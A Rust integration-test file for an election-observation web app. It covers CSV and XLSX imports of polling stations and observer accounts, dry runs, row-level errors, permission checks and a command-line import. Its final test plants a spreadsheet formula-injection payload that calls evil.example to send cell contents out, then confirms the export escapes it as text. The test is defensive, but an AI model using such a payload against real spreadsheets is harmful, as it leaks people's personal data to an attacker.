//! Imports through the web page and the command line: mapping, dry run, row errors, and the
//! all-or-nothing rule.

use reqwest::StatusCode;
use reqwest::multipart::{Form, Part};

use crate::helpers::{DEMO_PASSWORD, TestApp, spawn_app, spawn_empty_app};

/// Uploads a file and returns the review page's path.
async fn upload(app: &TestApp, client: &reqwest::Client, kind: &str, name: &str, bytes: Vec<u8>) -> reqwest::Response {
    let csrf = app.csrf(client).await;
    let form = Form::new()
        .text("csrf", csrf)
        .text("kind", kind.to_string())
        .part("file", Part::bytes(bytes).file_name(name.to_string()));
    client.post(app.url("/imports")).multipart(form).send().await.unwrap()
}

async fn review_path(app: &TestApp, client: &reqwest::Client, kind: &str, name: &str, bytes: Vec<u8>) -> String {
    let response = upload(app, client, kind, name, bytes).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    response.headers()["location"].to_str().unwrap().to_string()
}

async fn station_count(app: &TestApp, constituency: i64) -> i64 {
    let filter = storage::reference::StationFilter { constituency: Some(constituency), page: 1, per_page: 1 };
    storage::reference::stations(app.store.reads(), &filter).await.unwrap().total
}

#[tokio::test]
async fn a_station_file_is_mapped_dry_run_then_applied() {
    let app = spawn_app().await;
    let admin = app.login("admin", DEMO_PASSWORD).await;
    let before = station_count(&app, 125).await;
    // Odd headers that need a mapping; semicolons as European Excel writes them.
    let csv = "Dairə;Məntəqə №;Seçici sayı;Ünvan\n125;201;1 250;Zəngilan, 1 nömrəli məktəb\n125;202;800;\n";
    let path = review_path(&app, &admin, "stations", "stations.csv", csv.as_bytes().to_vec()).await;
    let review = app.get(&admin, &path).await.text().await.unwrap();
    assert!(review.contains("Zəngilan, 1 nömrəli məktəb"), "the preview shows the file");

    let mapping = [
        ("map.constituency", "Dairə"),
        ("map.number", "Məntəqə №"),
        ("map.registered_voters", "Seçici sayı"),
        ("map.address", "Ünvan"),
    ];
    let mut dry = mapping.to_vec();
    dry.push(("step", "dry_run"));
    let page = app.post_form(&admin, &path, &dry).await.text().await.unwrap();
    assert!(page.contains("Sınaq uğurludur"), "{page}");
    assert_eq!(station_count(&app, 125).await, before, "a dry run changes nothing");

    let mut apply = mapping.to_vec();
    apply.push(("step", "apply"));
    let page = app.post_form(&admin, &path, &apply).await.text().await.unwrap();
    assert!(page.contains("İdxal olundu") && page.contains("yeni: 2"), "{page}");
    assert_eq!(station_count(&app, 125).await, before + 2);
    let station =
        storage::reference::station(app.store.reads(), domain::election::StationRef::parse("125/201").unwrap())
            .await
            .unwrap()
            .unwrap();
    assert_eq!(station.registered_voters, 1250);

    let audit = storage::audit::list(
        &app.store,
        &storage::audit::AuditFilter {
            action: Some("station.import_create".into()),
            page: 1,
            per_page: 10,
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert_eq!(audit.total, 2, "each imported row is in the audit log");
    assert_eq!(audit.items[0].actor_username.as_deref(), Some("admin"));
}

#[tokio::test]
async fn a_file_with_bad_rows_is_refused_whole_with_every_problem_listed() {
    let app = spawn_app().await;
    let admin = app.login("admin", DEMO_PASSWORD).await;
    let before = station_count(&app, 124).await;
    let csv =
        "constituency,number,registered_voters\n124,301,900\n124,abc,900\n126,1,900\n124,302,99999\n124,301,700\n";
    let path = review_path(&app, &admin, "stations", "bad.csv", csv.as_bytes().to_vec()).await;
    let response = app
        .post_form(
            &admin,
            &path,
            &[
                ("map.constituency", "constituency"),
                ("map.number", "number"),
                ("map.registered_voters", "registered_voters"),
                ("step", "apply"),
            ],
        )
        .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let page = response.text().await.unwrap();
    let problems = page.split("id=\"import-problems\"").nth(1).expect("a problem table");
    for (row, text) in [
        (3, "tam ədəd olmalıdır"),
        (4, "1 ilə 125 arasında"),
        (5, "0 ilə 5000 arasında"),
        (6, "2 nömrəli sətri təkrarlayır"),
    ] {
        assert!(problems.contains(&format!("<td class=\"num\">{row}</td>")), "row {row} listed");
        assert!(problems.contains(text), "{text:?} explained");
    }
    assert_eq!(station_count(&app, 124).await, before, "not even the good row was imported");
}

#[tokio::test]
async fn people_import_from_xlsx_creates_accounts_with_assignments() {
    let app = spawn_app().await;
    let admin = app.login("admin", DEMO_PASSWORD).await;
    let table = tabular::Table {
        headers: ["İstifadəçi adı", "Adı soyadı", "Rol", "Təşkilat", "Telefon", "Məntəqələr", "Dairələr"]
            .map(String::from)
            .to_vec(),
        rows: vec![
            ["leyla.h", "Leyla Həsənova", "Müşahidəçi", "MISTM", "055 123 45 67", "17/3", ""]
                .map(String::from)
                .to_vec(),
            ["emin.k", "Emin Kərimov", "coordinator", "NHMT", "", "", "17; 18"].map(String::from).to_vec(),
        ],
    };
    let bytes = tabular::write_xlsx("people", &table).unwrap();
    let path = review_path(&app, &admin, "people", "people.xlsx", bytes).await;
    // Azerbaijani headers are recognised without a manual mapping.
    let review = app.get(&admin, &path).await.text().await.unwrap();
    assert!(review.contains("<option value=\"İstifadəçi adı\" selected>"), "username column guessed");
    let mapping: Vec<(String, String)> = [
        ("username", "İstifadəçi adı"),
        ("full_name", "Adı soyadı"),
        ("role", "Rol"),
        ("organisation", "Təşkilat"),
        ("phone", "Telefon"),
        ("stations", "Məntəqələr"),
        ("constituencies", "Dairələr"),
    ]
    .iter()
    .map(|(f, h)| (format!("map.{f}"), h.to_string()))
    .collect();
    let mut fields: Vec<(&str, &str)> = mapping.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    fields.push(("step", "apply"));
    let page = app.post_form(&admin, &path, &fields).await.text().await.unwrap();
    assert!(page.contains("yeni: 2"), "{page}");
    let emin = storage::people::by_username(app.store.reads(), "emin.k").await.unwrap().unwrap();
    let assignments = storage::people::assignments(app.store.reads(), emin.id).await.unwrap();
    assert_eq!(assignments.constituencies.iter().map(|c| c.get()).collect::<Vec<_>>(), vec![17, 18]);
}

#[tokio::test]
async fn an_organisation_admin_cannot_import_over_other_peoples_accounts() {
    let app = spawn_app().await;
    let org_admin = app.login("orgadmin", DEMO_PASSWORD).await;
    // "admin" exists and is the coalition's; rows for other organisations are refused too.
    let csv = "username,full_name,role,organisation\nadmin,Taken Over,observer,VCUM\nnew.one,New One,observer,NHMT\n";
    let path = review_path(&app, &org_admin, "people", "people.csv", csv.as_bytes().to_vec()).await;
    let response = app
        .post_form(
            &org_admin,
            &path,
            &[
                ("map.username", "username"),
                ("map.full_name", "full_name"),
                ("map.role", "role"),
                ("map.organisation", "organisation"),
                ("step", "apply"),
            ],
        )
        .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let admin = storage::people::by_username(app.store.reads(), "admin").await.unwrap().unwrap();
    assert_eq!(admin.role, domain::roles::Role::CoalitionAdmin);
    assert!(storage::people::by_username(app.store.reads(), "new.one").await.unwrap().is_none());
    // Reference data is not theirs to import at all.
    assert_eq!(
        upload(&app, &org_admin, "stations", "s.csv", b"constituency,number,registered_voters\n1,999,1\n".to_vec())
            .await
            .status(),
        403
    );
}

#[tokio::test]
async fn an_unreadable_file_gets_advice_not_a_crash() {
    let app = spawn_app().await;
    let admin = app.login("admin", DEMO_PASSWORD).await;
    let response = upload(&app, &admin, "stations", "latin1.csv", vec![0x4e, 0x61, 0xe9, 0x0a, 0x31]).await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(response.text().await.unwrap().contains("CSV UTF-8"));
}

#[tokio::test]
async fn the_command_line_import_builds_an_election_from_files() {
    let app = spawn_empty_app().await;
    let dir = tempfile::tempdir().unwrap();
    let constituencies = dir.path().join("c.csv");
    std::fs::write(&constituencies, "number,name_az,in_baku,monitored\n17,17 saylı Yasamal üçüncü seçki dairəsi,yes,yes\n18,18 saylı dairə,yes,no\n").unwrap();
    let stations = dir.path().join("s.csv");
    std::fs::write(&stations, "Dairə,No,Seçicilər\n17,1,1500\n17,2,900\n18,1,1100\n").unwrap();
    pollwatch::commands::import::run(&app.store, "constituencies", &constituencies, &[], false).await.unwrap();
    // A dry run of a file with a wrong mapping is refused with a usable message.
    let error = pollwatch::commands::import::run(&app.store, "stations", &stations, &[], true).await.unwrap_err();
    assert!(error.to_string().contains("--map"), "{error}");
    pollwatch::commands::import::run(&app.store, "stations", &stations, &["number=No".into()], false).await.unwrap();
    let summary = storage::reference::election(app.store.reads()).await.unwrap();
    assert!(summary.is_none(), "no election row yet: the import does not invent one");
    let rows = storage::reference::constituencies(app.store.reads(), &Default::default()).await.unwrap();
    assert_eq!(rows.iter().map(|r| r.stations).collect::<Vec<_>>(), vec![2, 1]);
    assert_eq!(rows[0].registered_voters, 2400);
}

/// A name an organisation's admin types as a formula would run in the coalition admin's
/// spreadsheet, and could send everyone's phone numbers away: the export writes it as text.
#[tokio::test]
async fn a_name_typed_as_a_formula_is_exported_as_text() {
    let app = spawn_app().await;
    let org_admin = app.login("orgadmin", DEMO_PASSWORD).await;
    let formula = r#"=HYPERLINK("https://evil.example/?p="&E3&E4,"Details")"#;
    let created = app
        .post_form(
            &org_admin,
            "/people",
            &[("username", "formula.name"), ("full_name", formula), ("role", "observer"), ("stations", "17/2")],
        )
        .await;
    assert!(created.status().is_success(), "{}", created.status());
    let admin = app.login("admin", DEMO_PASSWORD).await;
    let export = app.get(&admin, "/exports/people.csv").await.text().await.unwrap();
    let line = export.lines().find(|line| line.contains("formula.name")).expect("exported");
    assert!(line.contains(r#""'=HYPERLINK(""https://evil.example"#), "{line}");
    assert!(!line.contains(r#","=HYPERLINK"#), "{line}");
}
